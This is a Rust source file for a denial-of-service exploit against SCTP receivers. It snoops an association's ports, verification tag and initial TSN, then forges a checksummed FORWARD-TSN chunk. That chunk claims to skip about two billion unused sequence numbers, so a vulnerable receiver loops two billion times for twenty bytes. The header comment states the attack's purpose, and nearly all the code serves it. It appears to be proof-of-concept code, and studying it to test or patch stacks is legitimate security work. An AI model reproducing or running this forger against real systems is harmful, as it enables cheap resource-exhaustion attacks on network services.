//! A FORWARD-TSN (RFC 3758) that skips numbers nobody ever used.
//!
//! A receiver that walks through what [`SKIP_MAX`] claims takes two thousand million steps for
//! twenty bytes. It needs an association of one's own, so any client that joined can send it.

const COMMON_HEADER_LEN: usize = 12;
const INIT: u8 = 1;
const SACK: u8 = 3;
const FORWARD_TSN: u8 = 192;
/// The longest way that still leads forward (RFC 1982).
pub const SKIP_MAX: u32 = 0x7fff_ffff;

/// Learns what a forgery needs from the packets an honest stack sends.
#[derive(Clone, Copy, Debug, Default)]
pub struct Forger {
    ports: [u8; 4],
    verification_tag: [u8; 4],
    first_tsn: Option<u32>,
}

impl Forger {
    /// Looks at a packet on its way to the victim.
    pub fn observe(&mut self, packet: &[u8]) {
        let Some(header) = packet.first_chunk::<COMMON_HEADER_LEN>() else { return };
        let [p0, p1, p2, p3, t0, t1, t2, t3, ..] = *header;
        self.ports = [p0, p1, p2, p3];
        self.verification_tag = [t0, t1, t2, t3];
        if packet.get(COMMON_HEADER_LEN) == Some(&INIT) {
            self.first_tsn = number_at(packet, COMMON_HEADER_LEN + 16);
        }
    }

    /// The number that is reached by skipping `skipped` from the very first.
    #[must_use]
    pub fn reached(&self, skipped: u32) -> Option<u32> {
        self.first_tsn.map(|first| first.wrapping_add(skipped).wrapping_sub(1))
    }

    /// Writes the packet that claims to skip so many; `None` while the association isn't known.
    #[must_use]
    pub fn forge(&self, skipped: u32) -> Option<Vec<u8>> {
        let claimed = self.reached(skipped)?;
        let mut packet = Vec::new();
        packet.extend(self.ports);
        packet.extend(self.verification_tag);
        packet.extend([0; 4]);
        packet.extend([FORWARD_TSN, 0, 0, 8]);
        packet.extend(claimed.to_be_bytes());
        let sum = crc32c(&packet).to_le_bytes();
        packet.get_mut(8..COMMON_HEADER_LEN)?.copy_from_slice(&sum);
        Some(packet)
    }
}

/// The number up to which the sender of `packet` says it has everything, if it says so first.
#[must_use]
pub fn acknowledged_tsn(packet: &[u8]) -> Option<u32> {
    let is_sack = packet.get(COMMON_HEADER_LEN) == Some(&SACK);
    is_sack.then(|| number_at(packet, COMMON_HEADER_LEN + 4)).flatten()
}

fn number_at(packet: &[u8], at: usize) -> Option<u32> {
    packet.get(at..)?.first_chunk().map(|bytes| u32::from_be_bytes(*bytes))
}

/// The checksum of SCTP (RFC 9260 appendix A).
fn crc32c(bytes: &[u8]) -> u32 {
    let sum = bytes.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| {
            (sum >> 1) ^ (0x82f6_3b78 & (sum & 1).wrapping_neg())
        })
    });
    !sum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_that_of_rfc_3720() {
        assert_eq!(crc32c(&[0; 32]), 0x8a91_36aa);
        assert_eq!(crc32c(&[0xff; 32]), 0x62a8_ab43);
    }

    #[test]
    fn nothing_is_forged_before_the_association_is_known() {
        assert_eq!(Forger::default().forge(1), None);
    }
}
